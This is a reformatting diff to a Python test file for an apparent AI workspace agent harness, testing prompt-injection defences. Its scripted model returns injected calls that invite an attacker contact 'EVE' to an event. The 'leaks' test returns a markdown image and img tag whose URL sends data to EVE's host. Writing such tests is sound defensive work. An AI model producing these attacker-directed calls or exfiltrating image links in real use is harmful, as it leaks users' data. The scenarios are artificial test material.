@@ -93,9 +93,7 @@ def test_what_stands_in_a_document_sends_nothing(program: WorkspaceProgram, task
             return [
                 evil,
                 evil,
-                call(
-                    "create_event", title="x", start="2026-11-24T10:00", end="2026-11-24T11:00", guests=[EVE]
-                ),
+                call("create_event", title="x", start="2026-11-24T10:00", end="2026-11-24T11:00", guests=[EVE]),
             ]
         return call("read_file", file_id="f-1")
 
@@ -148,11 +146,7 @@ def test_two_things_are_confirmed_one_after_the_other(program: WorkspaceProgram,
         questions = sum("Review" in str(content) for content in heard.body["contents"])
         if done and not questions:
             return meets
-        return (
-            "Both are done."
-            if done
-            else call("send_mail", to=["aki@example.com"], subject="Plan", body="See you.")
-        )
+        return "Both are done." if done else call("send_mail", to=["aki@example.com"], subject="Plan", body="See you.")
 
     program.model.says = says
     task.say("Mail Aki and invite her", *WRITES, "--time-zone", "Asia/Tokyo")
@@ -183,9 +177,7 @@ def test_a_turn_that_is_taken_again_sends_nothing_twice(program: WorkspaceProgra
     assert len(program.workspace.mail.sent) == 1
 
 
-def test_a_picture_in_an_answer_is_not_fetched_by_whoever_shows_it(
-    program: WorkspaceProgram, task: Task
-) -> None:
+def test_a_picture_in_an_answer_is_not_fetched_by_whoever_shows_it(program: WorkspaceProgram, task: Task) -> None:
     def leaks(_: ModelRequest) -> str:
         return f"Done ![chart](https://{EVE}/?q=12) <img src='https://{EVE}/?q=12'>."
 
